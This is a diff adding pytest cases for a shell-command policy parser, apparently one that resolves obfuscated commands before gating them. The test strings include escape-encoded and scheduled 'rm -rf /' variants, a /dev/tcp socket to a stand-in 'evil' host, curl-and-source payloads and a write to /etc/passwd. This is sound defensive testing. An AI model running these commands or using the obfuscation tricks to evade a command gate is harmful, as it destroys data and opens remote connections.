@@ -181,6 +181,10 @@ REDIRECTS = [
     ("cat < in", "cat", [("<", "in", False)]),
     ("cat 0<in", "cat", [("0<", "in", False)]),
     ("exec 5<>/dev/tcp/evil/80", "exec", [("5<>", "/dev/tcp/evil/80", False)]),
+    ("exec 5<>/dev/tcp/evil/80; cat <&5 | grep x", "exec", [("5<>", "/dev/tcp/evil/80", False)]),
+    ("exec 5<>/dev/tcp/evil/80 && cat <&5", "exec", [("5<>", "/dev/tcp/evil/80", False)]),
+    ("cat <>dev; ls", "cat", [("<>", "dev", False)]),
+    ("cat 0<>dev && ls", "cat", [("0<>", "dev", False)]),
     (">out ls", "ls", [(">", "out", False)]),
     ("grep x <<< 'hay'", "grep", [("<<<", "hay", False)]),
     ("cat <<'EOF'\nbody\nEOF", "cat", [("<<", "EOF", False)]),
@@ -263,6 +267,15 @@ SHELL_SCRIPTS = [
     ("printf 'rm -rf %s\\n' / | sh", "sh -s"),
     ("cat <<'EOF' | bash\nrm -rf /\nEOF", "bash -s"),
     ("sh /dev/stdin <<< 'rm -rf /'", "sh -s"),
+    ("printf '\\x72\\x6d -rf /' | sh", "sh -s"),
+    ("printf '\\162\\155 -rf %s' / | sh", "sh -s"),
+    ("printf '\\u0072\\U0000006d -rf /' | sh", "sh -s"),
+    ("printf '%b' '\\x72\\0155 -rf /' | sh", "sh -s"),
+    ("echo -e '\\x72\\x6d -rf /' | sh", "sh -s"),
+    ("echo -e '\\0162m -rf /\\c ignored' | sh", "sh -s"),
+    ("at now + 1 minute <<< 'rm -rf /'", "at"),
+    ("echo 'rm -rf /' | batch", "at"),
+    ("at -m 10:00 <<'EOF'\nrm -rf /\nEOF", "at"),
     ("busybox sh <<< 'rm -rf /'", "sh -s"),
 ]
 
@@ -444,7 +457,7 @@ DYNAMIC_PAYLOADS = [
     "source <(curl x)",
     "bash < file",
     "sh -s < script.sh",
-    "echo rm | xargs -I{} {} -rf /",
+    "cat cmds | xargs -I{} {} -rf /",
     "find . | xargs sh -c",
     "find . | xargs bash",
     "find . -exec sh -c 'rm {}' \\;",
@@ -507,3 +520,142 @@ def test_text_of_payload_segments() -> None:
     a = parse("sudo rm -rf /tmp/x; bash -c 'ls -l | wc'")
     assert [s.text for s in a.segments] == ["sudo rm -rf /tmp/x", "rm -rf /tmp/x", "bash -c 'ls -l | wc'",
                                             "ls -l", "wc"]
+
+
+# --------------------------------------------------------------------------- printf / echo -e escapes
+
+
+def test_printf_and_echo_escapes_decode_whole() -> None:
+    from reign.policy.shell import _echo_e, _printf
+
+    assert _printf("\\x72\\x6d|\\101|\\0101|\\u00e9|\\U0001F600|\\cb|\\z", []) == "rm|A|\b1|\u00e9|\U0001F600|\\cb|\\z"
+    assert _printf('\\"\\\'\\?\\e\\\\x41', []) == '"\'?\x1b\\x41'  # a decoded backslash is not decoded again
+    assert _printf("%b|%s", ["\\x41", "\\x41"]) == "A|\\x41"
+    assert _printf("%b|", ["a\\cb", "c"]) == "a"  # `\\c` in %b ends all output
+    assert _echo_e("\\101|\\0101|\\x41|\\u0041|\\1|\\0134x41|\\\"") == "\\101|A|A|A|\\1|\\x41|\\\""
+    assert _echo_e("a\\cb") == "a"
+
+
+# --------------------------------------------------------------------------- xargs fed a known literal
+
+XARGS_FED = [
+    ("echo / | xargs rm -rf", [("rm", "-rf", "/")]),
+    ("echo / /home | xargs -n1 rm -rf", [("rm", "-rf", "/", "/home")]),
+    ("printf '/\\0/home\\0' | xargs -0 rm -rf", [("rm", "-rf", "/", "/home")]),
+    ("printf '/ x\\n' | xargs -d '\\n' rm -rf", [("rm", "-rf", "/ x")]),
+    ("echo '\"a b\" c' | xargs rm", [("rm", "a b", "c")]),
+    ("printf 'a\\nb c\\n' | xargs -I{} rm -rf /srv/{}", [("rm", "-rf", "/srv/a"), ("rm", "-rf", "/srv/b c")]),
+    ("echo rm | xargs -I{} {} -rf /", [("rm", "-rf", "/")]),
+]
+
+
+@pytest.mark.parametrize(("command", "argvs"), XARGS_FED, ids=[c[0][:40] for c in XARGS_FED])
+def test_xargs_appends_known_literal_input(command: str, argvs: list[tuple[str, ...]]) -> None:
+    a = parse(command)
+    assert a.clean, a.problems
+    runs = [s for s in a.segments if s.wrappers == ("xargs",)]
+    assert [s.argv for s in runs] == argvs
+    assert all(not s.dynamic_args for s in runs)
+
+
+def test_xargs_input_that_is_not_known_is_not_appended() -> None:
+    for command in ("echo $D | xargs rm -rf", "ls | xargs rm -rf", "echo / | xargs -a list rm -rf",
+                    "echo \"'a\" | xargs rm -rf"):
+        assert only(parse(command), "rm").argv == ("rm", "-rf"), command
+    assert only(parse("xargs rm -rf <<< /"), "rm").stdin_literal == "/\n"  # here-strings: left to the gate
+    b = parse("echo 'rm -rf /' | xargs sh -c")
+    assert only(b, "sh").argv == ("sh", "-c", "rm", "-rf", "/")  # `sh -c rm` with $0=-rf, as bash runs it
+
+
+# --------------------------------------------------------------------------- at / batch
+
+
+def test_at_and_batch() -> None:
+    assert only(parse("at now <<< 'reboot'"), "reboot").wrappers == ("at",)
+    a = parse("at -f /tmp/job.sh now")  # a script file, like `bash FILE`: not a payload
+    assert a.clean and programs(a) == ["at"]
+    assert "dynamic_payload" in parse("at -f $JOB now").problems
+    assert "dynamic_payload" in parse("curl -s x | at now").problems
+    assert only(parse("at -f /dev/stdin now <<< 'rm -rf /'"), "rm").wrappers == ("at",)
+    for command in ("at -l", "at -c 3 <<< 'rm -rf /'", "atq"):
+        assert "rm" not in programs(parse(command)), command
+
+
+# --------------------------------------------------------------------------- literal assignments
+
+ASSIGNED = [
+    ("r=/; rm -rf $r", ("rm", "-rf", "/")),
+    ("r=/; rm -rf ${r}", ("rm", "-rf", "/")),
+    ("r=/; rm -rf \"$r\"/*", ("rm", "-rf", "//*")),
+    ("r='/a b'; rm -rf \"$r\"", ("rm", "-rf", "/a b")),
+    ("r=/\nrm -rf $r", ("rm", "-rf", "/")),
+    ("r=/ && rm -rf $r", ("rm", "-rf", "/")),
+    ("a=/ b=etc; rm -rf $a$b", ("rm", "-rf", "/etc")),
+    ("a=/; b=${a}etc; rm -rf $b", ("rm", "-rf", "/etc")),
+    ("r=/e; r+=tc; rm -rf $r", ("rm", "-rf", "/etc")),
+    ("r=/; ls; x=1 make; rm -rf $r", ("rm", "-rf", "/")),
+    ("r=/; [ -d $r ] && rm -rf $r", ("rm", "-rf", "/")),
+    ("r=/; echo a | rm -rf $r", ("rm", "-rf", "/")),
+    ("r=/; sudo rm -rf $r", ("rm", "-rf", "/")),
+    ("r=/tmp/x; r=/; rm -rf $r", ("rm", "-rf", "/")),
+]
+
+
+@pytest.mark.parametrize(("command", "argv"), ASSIGNED, ids=[c[0][:40] for c in ASSIGNED])
+def test_literal_assignment_is_substituted(command: str, argv: tuple[str, ...]) -> None:
+    a = parse(command)
+    rm = last(a, "rm")
+    assert rm.argv == argv
+    assert not rm.dynamic_args
+
+
+def test_substituted_shell_payload_and_redirect() -> None:
+    a = parse("p='rm -rf /'; bash -c \"$p\"")
+    assert a.clean and only(a, "rm").wrappers == ("bash -c",)
+    b = parse("f=/etc/passwd; echo x > $f")
+    assert only(b, "echo").redirects == (Redirect(">", "/etc/passwd", False),)
+
+
+NOT_CERTAIN = [
+    "r=/ rm -rf $r",  # a prefix assignment is for that command only, after its words are expanded
+    "r=/ cmd; rm -rf $r",
+    "x && r=/; rm -rf $r",  # may not have run
+    "x || r=/; rm -rf $r",
+    "r=/ &\nrm -rf $r",  # in a background subshell
+    "r=/ | cat; rm -rf $r",
+    "(r=/); rm -rf $r",
+    "r=/; (rm -rf $r)",  # a subshell boundary
+    "r=/; if x; then rm -rf $r; fi",
+    "r=/; for f in a; do rm -rf $r; done",
+    "r=/; f() { rm -rf $r; }; f",
+    "r=/; rm -rf $(echo $r)",
+    "r=/; read r; rm -rf $r",  # changed by a builtin
+    "r=/; printf -v r x; rm -rf $r",
+    "r=/; f() { r=x; }; f; rm -rf $r",  # by a function
+    "r=/; eval \"$X\"; rm -rf $r",  # by code the parser cannot see
+    "trap \"$X\" DEBUG; r=/; rm -rf $r",
+    "declare -u r; r=/x; rm -rf $r",  # attributes change what is stored
+    "r=/; : $((r=5)); rm -rf $r",  # arithmetic assigns
+    "r=/; : ${r:=x}; rm -rf $r",
+    "IFS=/; r=a/b; rm -rf $r",  # word splitting changed
+    "r='a b'; rm -rf $r",  # unquoted: split into two words
+    "r=; rm -rf $r",
+    "r=(/ /home); rm -rf $r",
+    "r=$(pwd); rm -rf $r",
+    "r=/; $CMD; rm -rf $r",  # a computed command could be `read r`
+    "r=/; bash -c 'rm -rf $r'",  # not exported: the child shell does not see it
+    "RANDOM=1; rm -rf $RANDOM",
+    "r=/tmp; r=/ > f; rm -rf $r",  # mis-parsed by the grammar: nothing certain
+]
+
+
+@pytest.mark.parametrize("command", NOT_CERTAIN)
+def test_uncertain_assignment_is_not_substituted(command: str) -> None:
+    rm = last(parse(command), "rm")
+    assert rm.argv[-1].startswith("$"), rm.argv
+    assert len(rm.argv) - 1 in rm.dynamic_args
+
+
+def test_computed_program_name_stays_computed() -> None:
+    a = parse("a=rm; $a -rf /")
+    assert "dynamic_program" in a.problems and a.segments[0].argv == ("$a", "-rf", "/")
